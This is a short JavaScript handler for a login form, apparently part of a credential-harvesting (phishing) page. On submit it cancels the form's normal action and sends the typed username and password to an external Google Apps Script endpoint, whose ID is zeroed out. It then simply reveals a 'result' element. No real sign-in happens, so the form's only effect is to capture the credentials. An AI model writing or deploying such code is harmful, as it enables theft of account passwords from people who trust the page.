document.getElementById("loginForm").addEventListener("submit", function(e) {
  e.preventDefault();

  const user = document.getElementById("user").value;
  const pass = document.getElementById("pass").value;

  // Gửi dữ liệu đến Google Apps Script
  fetch("https://script.google.com/macros/s/00000000000000000000000000000000000000000000000000000000000000000000000000/exec", {
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: `user=${encodeURIComponent(user)}&pass=${encodeURIComponent(pass)}`
  });

  document.getElementById("result").classList.remove("hidden");
});
